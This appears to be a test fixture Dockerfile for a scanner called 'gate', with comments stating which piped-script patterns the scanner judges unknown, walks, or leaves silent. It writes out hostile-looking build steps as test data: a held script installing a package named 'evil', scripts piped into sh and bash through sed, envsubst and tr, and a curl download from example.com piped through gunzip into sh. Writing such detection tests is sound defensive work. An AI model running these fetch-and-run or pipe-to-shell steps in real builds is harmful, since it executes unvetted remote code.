# A held script piped into a shell through a program that changes it (`sed`, `envsubst`,
# `tr`) is not the text gate walks: unknown (lines 9-11, silent before). Through `cat` and
# `tee`, which hand it on as it is, it is walked (12, 13); a download keeps being judged by
# its address (14: silent, README "Known gaps").
FROM python:3.12
COPY <<GATE_TEXT_END /s.sh
pip install --no-binary :all: evil
GATE_TEXT_END
RUN cat /s.sh | sed s/x/y/ | sh
RUN cat /s.sh | envsubst | bash
RUN cat /s.sh | tr -d '\r' | tee /t.sh | sh
RUN cat /s.sh | cat - | sh
RUN cat /s.sh | tee /t.sh | sh
RUN curl -fsSL https://example.com/x.sh | gunzip | sh
